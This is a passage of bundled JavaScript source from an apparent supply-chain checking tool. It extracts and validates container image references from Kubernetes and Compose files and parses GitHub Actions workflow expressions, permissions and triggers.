  return isMap(resolved) ? resolved : null;
}
function asSeq(doc, node) {
  const resolved = deref(doc, node);
  return isSeq(resolved) ? resolved : null;
}
function entries(doc, node) {
  const map = asMap(doc, node);
  if (!map) return [];
  const out = [];
  for (const pair of map.items) {
    if (!isScalar(pair.key)) continue;
    out.push({ key: String(pair.key.value), keyNode: pair.key, value: deref(doc, pair.value), pair });
  }
  return out;
}
function entry(doc, node, key2) {
  const map = asMap(doc, node);
  if (!map) return void 0;
  for (const pair of map.items) {
    if (isScalar(pair.key) && String(pair.key.value) === key2) return { key: key2, keyNode: pair.key, value: deref(doc, pair.value), pair };
  }
  return void 0;
}
function scalarText(doc, node) {
  const resolved = deref(doc, node);
  if (!isScalar(resolved) || resolved.value === null || resolved.value === void 0) return void 0;
  return String(resolved.value);
}

// src/verify/manifests.ts
function manifestImageContext(image) {
  return `${image.kind}/${image.name} ${image.field?.endsWith("/volumes") ? "image volume" : "container"} ${image.container}`;
}
var POD_TEMPLATE_KINDS = /* @__PURE__ */ new Set(["Deployment", "ReplicaSet", "StatefulSet", "DaemonSet", "Job", "ReplicationController"]);
function manifestImages(path14, text) {
  const images = [];
  const { documents, problems } = manifestDocuments(path14, text);
  for (const { doc, file } of documents) {
    for (const { node: _node, pair: _pair, ...image } of resourceImages(doc.contents, (node) => locate(file, unquotedRange(node)))) images.push(image);
  }
  return { images, problems };
}
function manifestDocuments(path14, text) {
  const documents = [];
  const problems = [];
  for (const part of documentParts(text)) {
    const file = { path: path14, lineCounter: new LineIndex(part) };
    let parsed;
    try {
      parsed = parseYamlDocuments(part);
    } catch (error) {
      if (!(error instanceof YamlSyntaxError)) throw error;
      const { line, col: column } = syntaxErrorPosition(part, file.lineCounter, error);
      problems.push({
        path: path14,
        message: error.message.split("\n")[0] ?? error.message,
        location: { path: path14, startLine: line, startColumn: column, endLine: line, endColumn: column }
      });
      continue;
    }
    for (const doc of parsed) documents.push({ doc, file });
  }
  return { documents, problems };
}
function documentParts(text) {
  const lines2 = text.split("\n");
  const parts = [];
  let first = 0;
  const flush = (end) => {
    const body = lines2.slice(first, end).join("\n");
    if (body.trim() !== "") parts.push("\n".repeat(first) + body);
  };
  for (let index = 1; index < lines2.length; index += 1) {
    if (/^---(?:[ \t\r]|$)/.test(lines2[index])) {
      flush(index);
      first = index;
    }
  }
  flush(lines2.length);
  return parts;
}
var CONTAINER_LISTS = /* @__PURE__ */ new Set(["initContainers", "containers", "ephemeralContainers", "sidecars"]);
function isCustomGroup(apiVersion) {
  if (!apiVersion || !apiVersion.includes("/")) return false;
  const group = apiVersion.slice(0, apiVersion.indexOf("/"));
  return group.includes(".") && !group.endsWith(".k8s.io") && group !== "k8s.io";
}
function unquotedRange(node) {
  const [start, end] = node.range;
  return isScalar(node) && (node.type === "QUOTE_DOUBLE" || node.type === "QUOTE_SINGLE") && end - start >= 2 ? [start + 1, end - 1] : node;
}
function resourceImages(root, locate2) {
  const doc = new Document(root);
  const images = [];
  const push = (container, kind, name, fallbackName, field) => {
    const imageEntry = entry(doc, container, "image");
    const image = scalarText(doc, imageEntry?.value);
    if (!image || !imageEntry?.value) return;
    const containerName = scalarText(doc, entry(doc, container, "name")?.value) ?? fallbackName;
    images.push({ image, kind, name, container: containerName, location: locate2(imageEntry.value), field, node: imageEntry.value, pair: imageEntry.pair });
  };
  const readPodSpec = (podSpec, kind, name, at) => {
    if (!asMap(doc, podSpec)) return;
    for (const list of ["initContainers", "containers", "ephemeralContainers"]) {
      for (const container of asSeq(doc, entry(doc, podSpec, list)?.value)?.items ?? []) push(container, kind, name, "(unnamed)", `${at}/${list}`);
    }
    for (const volume of asSeq(doc, entry(doc, podSpec, "volumes")?.value)?.items ?? []) {
      const reference = entry(doc, entry(doc, volume, "image")?.value, "reference");
      const image = scalarText(doc, reference?.value);
      if (!image || !reference?.value) continue;
      const volumeName = scalarText(doc, entry(doc, volume, "name")?.value) ?? "(unnamed)";
      images.push({
        image,
        kind,
        name,
        container: volumeName,
        location: locate2(reference.value),
        field: `${at}/volumes`,
        node: reference.value,
        pair: reference.pair
      });
    }
  };
  const readCustom = (resource, kind, name, group) => {
    const tekton = group === "tekton.dev";
    const argo = group === "argoproj.io";
    if (tekton && kind === "StepAction") push(entry(doc, resource, "spec")?.value, kind, name, "(step action)", "spec");
    const seen = /* @__PURE__ */ new Set();
    const walk = (node, depth, at) => {
      if (depth > 64 || seen.has(node)) return;
      seen.add(node);
      const seq = asSeq(doc, node);
      if (seq) {
        for (const item of seq.items) walk(item, depth + 1, at);
        return;
      }
      for (const { key: key2, value } of entries(doc, node)) {
        if (CONTAINER_LISTS.has(key2) || tekton && key2 === "steps") {
          const items2 = asSeq(doc, value)?.items ?? [];
          for (const item of items2) push(item, kind, name, "(unnamed)", `${at}/${key2}`);
        } else if (key2 === "container" || tekton && key2 === "stepTemplate" || argo && key2 === "script") {
          push(value, kind, name, `(${key2})`, `${at}/${key2}`);
        }
        walk(value, depth + 1, `${at}/${key2}`);
      }
    };
    walk(entry(doc, resource, "spec")?.value, 0, "spec");
  };
  const visit = (resource) => {
    const kind = scalarText(doc, entry(doc, resource, "kind")?.value);
    if (!kind) return;
    if (kind === "List" || kind.endsWith("List")) {
      for (const item of asSeq(doc, entry(doc, resource, "items")?.value)?.items ?? []) visit(item);
      return;
    }
    if (kind === "Template" && asSeq(doc, entry(doc, resource, "objects")?.value)) {
      for (const item of asSeq(doc, entry(doc, resource, "objects")?.value).items) visit(item);
      return;
    }
    const name = scalarText(doc, entry(doc, entry(doc, resource, "metadata")?.value, "name")?.value) ?? "(unnamed)";
    const apiVersion = scalarText(doc, entry(doc, resource, "apiVersion")?.value);
    if (isCustomGroup(apiVersion)) {
      readCustom(resource, kind, name, apiVersion.slice(0, apiVersion.indexOf("/")));
      return;
    }
    const spec = entry(doc, resource, "spec")?.value;
    if (kind === "Pod") readPodSpec(spec, kind, name, "spec");
    else if (POD_TEMPLATE_KINDS.has(kind)) readPodSpec(entry(doc, entry(doc, spec, "template")?.value, "spec")?.value, kind, name, "spec/template/spec");
    else if (kind === "CronJob")
      readPodSpec(
        entry(doc, entry(doc, entry(doc, entry(doc, spec, "jobTemplate")?.value, "spec")?.value, "template")?.value, "spec")?.value,
        kind,
        name,
        "spec/jobTemplate/spec/template/spec"
      );
    else if (kind === "PodTemplate") readPodSpec(entry(doc, entry(doc, resource, "template")?.value, "spec")?.value, kind, name, "template/spec");
  };
  visit(doc.contents);
  return images;
}

// src/images/sources/reference.ts
var DOCKER_HUB = "docker.io";
var DOCKER_HUB_API = "registry-1.docker.io";
var COMPONENT = /^[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*$/;
var DOMAIN = /^(?:(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])(?:\.(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9]))*|\[[0-9A-Fa-f:.]+\])(?::[0-9]+)?$/;
var TAG = /^[\w][\w.-]{0,127}$/;
var DIGEST = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[a-zA-Z0-9=_-]{32,}$/;
var KNOWN_DIGESTS = { sha256: /^[a-f0-9]{64}$/, sha512: /^[a-f0-9]{128}$/ };
var MAX_NAME = 255;
function startsWithRegistry(name) {
  const slash = name.indexOf("/");
  if (slash < 0) return false;
  const first = name.slice(0, slash);
  return first.includes(".") || first.includes(":") || first === "localhost" || first !== first.toLowerCase();
}
function parseImageRef(text) {
  const fail = (reason) => ({ ok: false, reason });
  if (text === "") return fail("the image reference is empty");
  if (/\s/.test(text)) return fail("an image reference has no spaces");
  if (/^[a-f0-9]{64}$/.test(text)) return fail("64 hexadecimal digits name an image ID, not a repository");
  let rest = text;
  let digest;
  const at = rest.indexOf("@");
  if (at >= 0) {
    digest = rest.slice(at + 1);
    rest = rest.slice(0, at);
    if (!DIGEST.test(digest)) return fail(`${JSON.stringify(digest)} is not a digest (ALGORITHM:HEX)`);
    const [algorithm, encoded] = [digest.slice(0, digest.indexOf(":")), digest.slice(digest.indexOf(":") + 1)];
    const expected = KNOWN_DIGESTS[algorithm];
    if (expected && !expected.test(encoded))
      return fail(`${JSON.stringify(digest)} is not a ${algorithm} digest (${algorithm === "sha256" ? 64 : 128} lower-case hex digits)`);
  }
  let tag;
  const lastSlash = rest.lastIndexOf("/");
  const colon = rest.lastIndexOf(":");
  if (colon > lastSlash) {
    tag = rest.slice(colon + 1);
    rest = rest.slice(0, colon);
    if (!TAG.test(tag)) return fail(`${JSON.stringify(tag)} is not a valid tag`);
  }
  const slash = rest.indexOf("/");
  const first = slash >= 0 ? rest.slice(0, slash) : "";
  const hasDomain = startsWithRegistry(rest);
  let registry = hasDomain ? first.toLowerCase() : DOCKER_HUB;
  let path14 = hasDomain ? rest.slice(slash + 1) : rest;
  if (hasDomain && !DOMAIN.test(first)) return fail(`${JSON.stringify(first)} is not a registry host`);
  if (registry === "index.docker.io" || registry === DOCKER_HUB_API) registry = DOCKER_HUB;
  if (path14 === "") return fail("the image reference has no repository");
  for (const component of path14.split("/")) {
    if (COMPONENT.test(component)) continue;
    if (COMPONENT.test(component.toLowerCase())) return fail(`repository ${JSON.stringify(path14)} must be lower case`);
    return fail(`repository ${JSON.stringify(path14)} is not valid (components of a-z, 0-9 and separators . _ __ -)`);
  }
  if (registry === DOCKER_HUB && !path14.includes("/")) path14 = `library/${path14}`;
  if (`${registry}/${path14}`.length > MAX_NAME) return fail(`the repository name is longer than ${MAX_NAME} characters`);
  const defaultTag = tag === void 0 && digest === void 0;
  if (defaultTag) tag = "latest";
  const canonical = `${registry}/${path14}${tag !== void 0 ? `:${tag}` : ""}${digest !== void 0 ? `@${digest}` : ""}`;
  const apiName = `${registry === DOCKER_HUB ? DOCKER_HUB_API : registry}/${path14}`;
  return {
    ok: true,
    ref: {
      registry,
      repository: path14,
      ...tag !== void 0 ? { tag } : {},
      ...defaultTag ? { defaultTag: true } : {},
      ...digest !== void 0 ? { digest } : {},
      canonical,
      apiName
    }
  };
}
function familiarName(ref) {
  let name = ref.registry === DOCKER_HUB ? ref.repository.replace(/^library\/(?=[^/]+$)/, "") : `${ref.registry}/${ref.repository}`;
  if (ref.tag !== void 0 && !ref.defaultTag) name += `:${ref.tag}`;
  if (ref.digest !== void 0) name += `@${ref.digest}`;
  return name;
}

// src/images/sources/kubernetes.ts
var GO_TEMPLATE = /\{\{-|\{\{\s*(?:[.$]|(?:if|else|end|range|with|include|template|define|block|toYaml|tpl|printf|default|required|quote)\b)/;
var PLACEHOLDER = /\$\([^)]*\)|\{\{[^}]*\}\}/;
function looksLikeManifest(relative, text) {
  if (!/\.ya?ml$/i.test(relative) || relative.startsWith(".github/")) return false;
  if (GO_TEMPLATE.test(text)) return false;
  return /^\s*apiVersion\s*:/m.test(text) && /^\s*kind\s*:/m.test(text) && /["']?\bimage["']?\s*:/.test(text);
}
function kubernetesImages(path14, text) {
  const found = manifestImages(path14, text);
  return {
    images: found.images.map(manifestImageSource),
    problems: found.problems.map((problem) => ({ path: problem.path, message: problem.message, location: problem.location })),
    fields: found.images.map((image) => image.field)
  };
}
function manifestImageSource(image) {
  const context = manifestImageContext(image);
  const parsed = parseImageRef(image.image.trim());
  const base = { kind: "kubernetes", context, location: image.location, text: image.image.trim() };
  if (parsed.ok) return { ...base, ref: parsed.ref };
  if (base.text.startsWith("ko://"))
    return { ...base, unknown: "a ko:// placeholder: ko replaces it with the image it builds and pushes (`ko resolve` / `ko apply`)" };
  const placeholder = PLACEHOLDER.exec(base.text);
  if (placeholder) return { ...base, unknown: `the image is filled in by ${placeholder[0]} when the resource runs, which chaingate does not resolve` };
  return { ...base, unknown: `not a valid image reference: ${parsed.reason}` };
}

// src/images/sources/names.ts
import path5 from "node:path";
var COMPOSE_FILES = ["compose.yaml", "compose.yml", "docker-compose.yml", "docker-compose.yaml"];
var COMPOSE_OVERRIDES = ["compose.override.yml", "compose.override.yaml", "docker-compose.override.yml", "docker-compose.override.yaml"];
function isComposeName(relative) {
  return !relative.startsWith(".github/workflows/") && /(?:^|\/)(?:docker-)?compose(?:\.[^/]+)?\.ya?ml$/i.test(relative);
}
var KUSTOMIZATION_NAMES = ["kustomization.yaml", "kustomization.yml", "Kustomization"];
function isKustomizationName(relative) {
  return KUSTOMIZATION_NAMES.includes(relative.slice(relative.lastIndexOf("/") + 1));
}
function isChartValues(relative, files) {
  return /(?:^|\/)values\.ya?ml$/.test(relative) && files.has(path5.posix.join(path5.posix.dirname(relative), "Chart.yaml"));
}
function isVendoredSubchart(folder, files) {
  const match2 = /^(?:(.*)\/)?charts\/[^/]+$/.exec(folder);
  if (!match2) return false;
  const parent = match2[1] === void 0 ? "" : `${match2[1]}/`;
  return files.has(`${parent}Chart.yaml`) && (files.has(`${parent}values.yaml`) || files.has(`${parent}values.yml`));
}
function workspacePath(folder, written) {
  if (path5.posix.isAbsolute(written)) return void 0;
  const joined = path5.posix.normalize(path5.posix.join(folder, written));
  return joined === ".." || joined.startsWith("../") ? void 0 : joined;
}

// fs-without-es-facade:src/images/sources/index.ts
var fs5 = process.getBuiltinModule("node:fs");
var sources_default = fs5;

// src/images/sources/index.ts
import path7 from "node:path";

// src/workflow/expressions.ts
function scanExpressions(value) {
  const found = [];
  let from = 0;
  while (from < value.length) {
    const start = value.indexOf("${{", from);
    if (start === -1) break;
    const bodyStart = start + 3;
    let i = bodyStart;
    let inString = false;
    let close = -1;
    while (i < value.length) {
      const c = value.charCodeAt(i);
      if (inString) {
        if (c === 39) {
          if (value.charCodeAt(i + 1) === 39) i += 1;
          else inString = false;
        }
      } else if (c === 39) {
        inString = true;
      } else if (c === 125 && value.charCodeAt(i + 1) === 125) {
        close = i;
        break;
      }
      i += 1;
    }
    if (close === -1) {
      found.push({ start, end: value.length, body: value.slice(bodyStart), bodyStart, terminated: false });
      break;
    }
    found.push({ start, end: close + 2, body: value.slice(bodyStart, close), bodyStart, terminated: true });
    from = close + 2;
  }
  return found;
}
var MAX_EXPRESSION_LENGTH = 21e3;
var MAX_DEPTH = 50;
function lex(text) {
  const tokens = [];
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (c === " " || c === "	" || c === "\n" || c === "\r") {
      i += 1;
      continue;
    }
    const start = i;
    if (c === "'") {
      let v = "";
      i += 1;
      for (; ; ) {
        if (i >= text.length) return null;
        if (text[i] === "'") {
          if (text[i + 1] === "'") {
            v += "'";
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        v += text[i];
        i += 1;
      }
      tokens.push({ t: "str", v, s: start, e: i });
      continue;
    }
    if (/[0-9]/.test(c) || c === "-" && /[0-9.]/.test(text[i + 1] ?? "") && !lastIsValue(tokens)) {
      const m = /^-?(0x[0-9a-fA-F]+|0o[0-7]+|[0-9]*\.?[0-9]+(e[+-]?[0-9]+)?)/i.exec(text.slice(i));
      if (!m) return null;
      i += m[0].length;
      tokens.push({ t: "num", v: Number(m[0]), s: start, e: i });
      continue;
    }
    if (/[A-Za-z_]/.test(c)) {
      while (i < text.length && /[A-Za-z0-9_-]/.test(text[i])) i += 1;
      tokens.push({ t: "id", v: text.slice(start, i), s: start, e: i });
      continue;
    }
    const two = text.slice(i, i + 2);
    if (two === "==" || two === "!=" || two === "<=" || two === ">=" || two === "&&" || two === "||") {
      tokens.push({ t: "op", v: two, s: start, e: i + 2 });
      i += 2;
      continue;
    }
    if (".[]()!<>,*".includes(c)) {
      tokens.push({ t: "op", v: c, s: start, e: i + 1 });
      i += 1;
      continue;
    }
    return null;
  }
  return tokens;
}
function lastIsValue(tokens) {
  const last = tokens[tokens.length - 1];
  if (!last) return false;
  return last.t !== "op" || last.v === ")" || last.v === "]";
}
var Parser = class {
  constructor(tokens) {
    this.tokens = tokens;
  }
  tokens;
  pos = 0;
  depth = 0;
  parse() {
    const node = this.or();
    return node && this.pos === this.tokens.length ? node : null;
  }
  peek() {
    return this.tokens[this.pos];
  }
  isOp(v) {
    const token = this.tokens[this.pos];
    return token?.t === "op" && token.v === v;
  }
  binary(next, ops) {
    let left = next();
    while (left) {
      const token = this.peek();
      if (!token || token.t !== "op" || !ops.includes(token.v)) break;
      this.pos += 1;
      const right = next();
      if (!right) return null;
      left = { kind: "binary", op: token.v, left, right, start: left.start, end: right.end };
    }
    return left;
  }
  or() {
    if (++this.depth > MAX_DEPTH) return null;
    const node = this.binary(() => this.and(), ["||"]);
    this.depth -= 1;
    return node;
  }
  and() {
    return this.binary(() => this.equality(), ["&&"]);
  }
  equality() {
    return this.binary(() => this.comparison(), ["==", "!="]);
  }
  comparison() {
    return this.binary(() => this.unary(), ["<", "<=", ">", ">="]);
  }
  unary() {
    const token = this.peek();
    if (token?.t === "op" && token.v === "!") {
      this.pos += 1;
      if (++this.depth > MAX_DEPTH) return null;
      const operand = this.unary();
      this.depth -= 1;
      return operand ? { kind: "not", operand, start: token.s, end: operand.end } : null;
    }
    return this.postfix();
  }
  postfix() {
    let node = this.primary();
    while (node) {
      if (this.isOp(".")) {
        this.pos += 1;
        const name = this.peek();
        let segment;
        if (name?.t === "id") segment = name.v;
        else if (name?.t === "op" && name.v === "*") segment = "*";
        else return null;
        this.pos += 1;
        node = member(node, segment, name.e);
      } else if (this.isOp("[")) {
        this.pos += 1;
        let index;
        if (this.isOp("*")) {
          this.pos += 1;
          index = "*";
        } else index = this.or();
        if (!index || !this.isOp("]")) return null;
        const close = this.peek();
        this.pos += 1;
        if (index === "*") node = member(node, "*", close.e);
        else if (index.kind === "literal" && typeof index.value === "string") node = member(node, index.value, close.e);
        else if (index.kind === "literal" && typeof index.value === "number") node = member(node, "*", close.e);
        else node = { kind: "access", object: node, property: index, start: node.start, end: close.e };
      } else break;
    }
    return node;
  }
  primary() {
    const token = this.peek();
    if (!token) return null;
    this.pos += 1;
    if (token.t === "str") return { kind: "literal", value: token.v, start: token.s, end: token.e };
    if (token.t === "num") return { kind: "literal", value: token.v, start: token.s, end: token.e };
    if (token.t === "op") {
      if (token.v !== "(") return null;
      const inner = this.or();
      if (!inner || !this.isOp(")")) return null;
      this.pos += 1;
      return inner;
    }
    const lower2 = token.v.toLowerCase();
    if (lower2 === "true" || lower2 === "false") return { kind: "literal", value: lower2 === "true", start: token.s, end: token.e };
    if (lower2 === "null") return { kind: "literal", value: null, start: token.s, end: token.e };
    if (this.isOp("(")) {
      this.pos += 1;
      const args = [];
      if (!this.isOp(")")) {
        for (; ; ) {
          const arg = this.or();
          if (!arg) return null;
          args.push(arg);
          if (this.isOp(",")) {
            this.pos += 1;
            continue;
          }
          break;
        }
      }
      if (!this.isOp(")")) return null;
      const close = this.peek();
      this.pos += 1;
      return { kind: "call", name: lower2, args, start: token.s, end: close.e };
    }
    return { kind: "context", path: lower2, segments: [lower2], dynamic: false, start: token.s, end: token.e };
  }
};
function member(object, segment, end) {
  if (object.kind === "context") {
    const lower2 = segment.toLowerCase();
    return { kind: "context", path: `${object.path}.${lower2}`, segments: [...object.segments, lower2], dynamic: object.dynamic, start: object.start, end };
  }
  return { kind: "access", object, property: segment === "*" ? "*" : segment.toLowerCase(), start: object.start, end };
}
var parseCache = /* @__PURE__ */ new Map();
function parseExpression(body) {
  const cached = parseCache.get(body);
  if (cached !== void 0 || parseCache.has(body)) return cached ?? null;
  let result = null;
  if (body.length <= MAX_EXPRESSION_LENGTH) {
    const tokens = lex(body);
    result = tokens && tokens.length > 0 ? new Parser(tokens).parse() : null;
  }
  if (parseCache.size > 5e4) parseCache.clear();
  parseCache.set(body, result);
  return result;
}
function contextRefs(node) {
  const out = [];
  const visit = (n) => {
    switch (n.kind) {
      case "context":
        out.push(n);
        break;
      case "call":
        n.args.forEach(visit);
        break;
      case "binary":
        visit(n.left);
        visit(n.right);
        break;
      case "not":
        visit(n.operand);
        break;
      case "access":
        visit(n.object);
        if (typeof n.property === "object") visit(n.property);
        break;
      default:
        break;
    }
  };
  if (node) visit(node);
  return out;
}
var PASS_THROUGH_FUNCTIONS = /* @__PURE__ */ new Set(["format", "join", "tojson", "fromjson"]);
function valueRefs(node) {
  const out = [];
  const visit = (n) => {
    switch (n.kind) {
      case "context":
        out.push(n);
        break;
      case "call":
        if (PASS_THROUGH_FUNCTIONS.has(n.name)) n.args.forEach(visit);
        break;
      case "binary":
        if (n.op === "||") {
          visit(n.left);
          visit(n.right);
        } else if (n.op === "&&") {
          visit(n.right);
        }
        break;
      case "access":
        visit(n.object);
        break;
      default:
        break;
    }
  };
  if (node) visit(node);
  return out;
}
function walkExpression(node, visit) {
  if (!node) return;
  visit(node);
  switch (node.kind) {
    case "call":
      node.args.forEach((arg) => walkExpression(arg, visit));
      break;
    case "binary":
      walkExpression(node.left, visit);
      walkExpression(node.right, visit);
      break;
    case "not":
      walkExpression(node.operand, visit);
      break;
    case "access":
      walkExpression(node.object, visit);
      if (typeof node.property === "object") walkExpression(node.property, visit);
      break;
    default:
      break;
  }
}

// src/workflow/source-map.ts
function sourceOffsets(source, node, value, targets) {
  const result = new Array(targets.length).fill(0);
  let next = 0;
  const map = {
    set(i, offset) {
      while (next < targets.length && targets[next] === i) result[next++] = offset;
    }
  };
  const range = node.range;
  if (!range || targets.length === 0) return result;
  const start = range[0];
  const end = Math.min(range[1], source.length);
  const type = node.type;
  let p = start;
  if (type === Scalar.BLOCK_LITERAL || type === Scalar.BLOCK_FOLDED) {
    const newline = source.indexOf("\n", start);
    p = newline === -1 || newline >= end ? end : newline + 1;
  } else if (type === Scalar.QUOTE_DOUBLE || type === Scalar.QUOTE_SINGLE) {
    p = start + 1;
  }
  const double = type === Scalar.QUOTE_DOUBLE;
  const single = type === Scalar.QUOTE_SINGLE;
  const last = targets[targets.length - 1];
  for (let i = 0; i < value.length && i <= last; i += 1) {
    const c = value.charCodeAt(i);
    for (; ; ) {
      if (p >= end) {
        map.set(i, Math.max(start, end - 1));
        break;
      }
      const s = source.charCodeAt(p);
      if (double && s === 92) {
        const n = source.charCodeAt(p + 1);
        if (n === 10 || n === 13) {
          p += n === 13 && source.charCodeAt(p + 2) === 10 ? 3 : 2;
          while (p < end && (source.charCodeAt(p) === 32 || source.charCodeAt(p) === 9)) p += 1;
          continue;
        }
        const length = n === 120 ? 4 : n === 117 ? 6 : n === 85 ? 10 : 2;
        if (length === 10 && c >= 55296 && c <= 56319 && i + 1 < value.length) {
          map.set(i, p);
          i += 1;
          map.set(i, p);
        } else map.set(i, p);
        p += length;
        break;
      }
      if (single && s === 39 && source.charCodeAt(p + 1) === 39) {
        map.set(i, p);
        p += 2;
        break;
      }
      if (s === c) {
        map.set(i, p);
        p += 1;
        break;
      }
      if ((c === 32 || c === 10) && (s === 10 || s === 13)) {
        map.set(i, p);
        p += s === 13 && source.charCodeAt(p + 1) === 10 ? 2 : 1;
        break;
      }
      p += 1;
    }
  }
  map.set(value.length, Math.min(p, end));
  return result;
}

// src/object-memo.ts
var ObjectMemo = class {
  key = /* @__PURE__ */ Symbol("memo");
  get(object) {
    return object[this.key];
  }
  set(object, value) {
    Object.defineProperty(object, this.key, { value, writable: true, configurable: true, enumerable: false });
    return this;
  }
};

// src/workflow/build.ts
function deref2(_ctx, node) {
  if (isAlias(node)) return node.resolve();
  return node ?? null;
}
function mapOf(ctx, node) {
  const resolved = deref2(ctx, node);
  return isMap(resolved) ? resolved : null;
}
function pairs(ctx, node, depth = 0) {
  const map = mapOf(ctx, node);
  if (!map) return [];
  const out = [];
  let merged = null;
  for (const pair of map.items) {
    const keyNode = pair.key;
    if (!isScalar(keyNode) || keyNode.value === null || keyNode.value === void 0) continue;
    const key2 = String(keyNode.value);
    if (key2 === "<<" && depth < 5) {
      const source = deref2(ctx, pair.value);
      const sources = isSeq(source) ? source.items : [source];
      for (const item of sources) (merged ??= []).push(...pairs(ctx, item, depth + 1));
      continue;
    }
    out.push({ key: key2, keyNode, value: deref2(ctx, pair.value), raw: pair.value ?? null });
  }
  if (merged) {
    const own = new Set(out.map((p) => p.key));
    for (const pair of merged) if (!own.has(pair.key)) out.push(pair);
  }
  return out;
}
function pairMap(ctx, node) {
  const out = /* @__PURE__ */ new Map();
  for (const pair of pairs(ctx, node)) if (!out.has(pair.key)) out.set(pair.key, pair);
  return out;
}
function items(ctx, node) {
  const resolved = deref2(ctx, node);
  if (!isSeq(resolved)) return [];
  const out = [];
  for (const item of resolved.items) {
    const value = deref2(ctx, item);
    if (value) out.push(value);
  }
  return out;
}
var NO_EXPRESSIONS = Object.freeze([]);
var ALIAS_STAND_INS = /* @__PURE__ */ new WeakSet();
function strOf(ctx, node) {
  const resolved = deref2(ctx, node);
  if (!isScalar(resolved) || resolved.value === null || resolved.value === void 0) return void 0;
  const raw = resolved.value;
  const value = typeof raw === "string" ? raw : String(raw);
  if (isAlias(node)) {
    const at = new Scalar(resolved.value, resolved.type, node.range[0], node.range[1]);
    ALIAS_STAND_INS.add(at);
    const expressions = value.includes("${{") ? scanExpressions(value).map((span) => ({
      body: span.body,
      ast: span.terminated ? parseExpression(span.body) : null,
      terminated: span.terminated,
      valueStart: span.start,
      valueEnd: span.end,
      start: at.start,
      end: at.end
    })) : NO_EXPRESSIONS;
    return { value, node: at, expressions };
  }
  return { value, node: resolved, expressions: value.includes("${{") ? expressionsOf(ctx.text, resolved, value) : NO_EXPRESSIONS };
}
function expressionsOf(text, node, value) {
  const spans = scanExpressions(value);
  if (spans.length === 0) return [];
  let offsets = null;
  const sourceOffset = (index) => {
    if (!offsets) {
      const targets = [];
      for (const span of spans) targets.push(span.start, Math.max(span.start, span.end - 1));
      offsets = sourceOffsets(text, node, value, targets);
    }
    return offsets[index] ?? 0;
  };
  return spans.map(
    (span, i) => new SourcedExpression(span.body, span.terminated ? parseExpression(span.body) : null, span.terminated, span.start, span.end, sourceOffset, i)
  );
}
var SourcedExpression = class {
  constructor(body, ast, terminated, valueStart, valueEnd, sourceOffset, index) {
    this.body = body;
    this.ast = ast;
    this.terminated = terminated;
    this.valueStart = valueStart;
    this.valueEnd = valueEnd;
    this.sourceOffset = sourceOffset;
    this.index = index;
  }
  body;
  ast;
  terminated;
  valueStart;
  valueEnd;
  sourceOffset;
  index;
  get start() {
    return this.sourceOffset(2 * this.index);
  }
  get end() {
    return this.sourceOffset(2 * this.index + 1) + 1;
  }
};
function conditionExpressions(file, str2) {
  if (str2.expressions.length > 0) return str2.expressions;
  const cached = conditionCache.get(str2);
  if (cached) return cached;
  const [start, end] = sourceSpan(file, str2, 0, str2.value.length);
  const expression = {
    body: str2.value,
    ast: parseExpression(str2.value),
    terminated: true,
    valueStart: 0,
    valueEnd: str2.value.length,
    start,
    end,
    bare: true
  };
  conditionCache.set(str2, [expression]);
  return [expression];
}
var conditionCache = new ObjectMemo();
function expressionNodeSpan(file, str2, expression, node) {
  const bodyStart = expression.valueStart + (expression.bare ? 0 : 3);
  return sourceSpan(file, str2, bodyStart + node.start, bodyStart + node.end);
}
function sourceSpan(file, str2, valueStart, valueEnd) {
  if (ALIAS_STAND_INS.has(str2.node)) return [str2.node.start, str2.node.end];
  const first = Math.min(valueStart, str2.value.length);
  const [start = 0, last = start] = sourceOffsets(file.text, str2.node, str2.value, [first, Math.max(first, Math.min(valueEnd, str2.value.length) - 1)]);
  return [start, Math.max(start + 1, last + 1)];
}
var EMPTY = /* @__PURE__ */ new Map();
function valueEntries(ctx, node) {
  const list = pairs(ctx, node);
  if (list.length === 0) return EMPTY;
  const out = /* @__PURE__ */ new Map();
  for (const pair of list) {
    if (out.has(pair.key)) continue;
    out.set(pair.key, { name: pair.key, keyNode: pair.keyNode, node: pair.value, value: strOf(ctx, pair.raw) ?? null });
  }
  return out;
}
function envOf(ctx, node) {
  return valueEntries(ctx, node);
}
function stringList(ctx, node) {
  const resolved = deref2(ctx, node);
  if (isSeq(resolved)) return items(ctx, resolved).flatMap((item) => strOf(ctx, item)?.value ?? []);
  const single = strOf(ctx, resolved);
  return single ? [single.value] : [];
}
function permissionsOf(ctx, pair) {
  if (!pair) return void 0;
  const permissions = { keyNode: pair.keyNode, node: pair.value, form: "invalid", scopes: /* @__PURE__ */ new Map() };
  const value = pair.value;
  if (isScalar(value)) {
    const text = value.value === null || value.value === void 0 ? "" : String(value.value);
    if (text === "read-all" || text === "write-all") permissions.form = text;
    else if (text.includes("${{")) permissions.form = "expression";
    else if (text === "") permissions.form = "empty";
    return permissions;
  }
  if (value === null) {
    permissions.form = "empty";
    return permissions;
  }
  if (!isMap(value)) return permissions;
  const entries2 = pairs(ctx, value);
  permissions.form = entries2.length === 0 ? "empty" : "map";
  for (const entry2 of entries2) {
    const level = strOf(ctx, entry2.value)?.value ?? "";
    permissions.scopes.set(entry2.key, { level, keyNode: entry2.keyNode, valueNode: entry2.value });
  }
  return permissions;
}
function inputsOf(ctx, node) {
  const out = /* @__PURE__ */ new Map();
  for (const pair of pairs(ctx, node)) {
    const fields = pairMap(ctx, pair.value);
    const input2 = { name: pair.key, keyNode: pair.keyNode };
    const type = strOf(ctx, fields.get("type")?.raw)?.value;
    if (type) input2.type = type.toLowerCase();
    const required = strOf(ctx, fields.get("required")?.raw)?.value;
    if (required !== void 0) input2.required = required === "true";
    const def = strOf(ctx, fields.get("default")?.raw);
    if (def) input2.default = def;
    const options = fields.get("options");
    if (options) input2.options = stringList(ctx, options.value);
    out.set(pair.key, input2);
  }
  return out;
}
function triggerOf(ctx, event, node, config) {
  const trigger = { event, node, config, filters: /* @__PURE__ */ new Map(), inputs: /* @__PURE__ */ new Map(), secrets: /* @__PURE__ */ new Map() };
  for (const pair of pairs(ctx, config)) {
    if (pair.key === "inputs") trigger.inputs = inputsOf(ctx, pair.value);
    else if (pair.key === "secrets") trigger.secrets = valueEntries(ctx, pair.value);
